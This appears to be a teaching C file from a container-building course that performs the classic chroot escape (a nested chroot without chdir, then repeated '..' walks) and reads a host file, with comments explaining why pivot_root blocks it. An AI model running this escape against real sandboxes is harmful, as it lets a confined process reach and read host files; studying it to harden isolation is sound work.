/*
 * breakout.c (06-rootfs) - leave a chroot.
 *
 *     sudo ./stage-6 --chroot -v build/attacks:/attacks:ro \
 *         /attacks/breakout                       # the host's root
 *     sudo ./stage-6 -v build/attacks:/attacks:ro \
 *         /attacks/breakout                       # still the container's
 *
 * breakout [PATH]: breaks out, lists the root folder it then has, and prints
 * the first line of PATH (/etc/hostname).
 *
 * chroot(2) only changes where this process's path lookup starts. ".." is
 * stopped at the root folder alone: a process whose working directory lies
 * outside its root walks up to the true one. A second chroot, deeper, without
 * a chdir makes it so. pivot_root(2) changes the mount tree: above the new
 * root there is nothing left to walk to.
 *
 * Exit status: 0 the root changed, 1 it did not, 2 it could not be tried.
 */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

enum { WORKED, STOPPED, NOT_TRIED };

static void list_root(void)
{
    DIR *root = opendir("/");
    struct dirent *entry;

    if (!root)
        return;
    printf("the root folder has:");
    while ((entry = readdir(root)))
        if (entry->d_name[0] != '.')
            printf(" %s", entry->d_name);
    printf("\n");
    closedir(root);
}

static void print_first_line(const char *path)
{
    char line[256];
    FILE *file = fopen(path, "r");

    if (file && fgets(line, sizeof(line), file))
        printf("%s: %s\n", path, line);
    else
        printf("%s: cannot be read\n", path);
    if (file)
        fclose(file);
}

int main(int argc, char **argv)
{
    struct stat before, after;

    if (chdir("/") == -1 || stat("/", &before) == -1)
        return NOT_TRIED;
    /* the new root lies below the working directory, which stays outside */
    if (chroot("/tmp") == -1 && chroot("/bin") == -1) {
        perror("chroot");
        return STOPPED;
    }
    for (int i = 0; i < 64; i++)
        if (chdir("..") == -1)
            return NOT_TRIED;
    if (chroot(".") == -1 || stat("/", &after) == -1)
        return NOT_TRIED;

    list_root();
    print_first_line(argc > 1 ? argv[1] : "/etc/hostname");
    if (before.st_dev == after.st_dev && before.st_ino == after.st_ino) {
        printf("stopped: this is the root I started in\n");
        return STOPPED;
    }
    printf("out: this is another root\n");
    return WORKED;
}
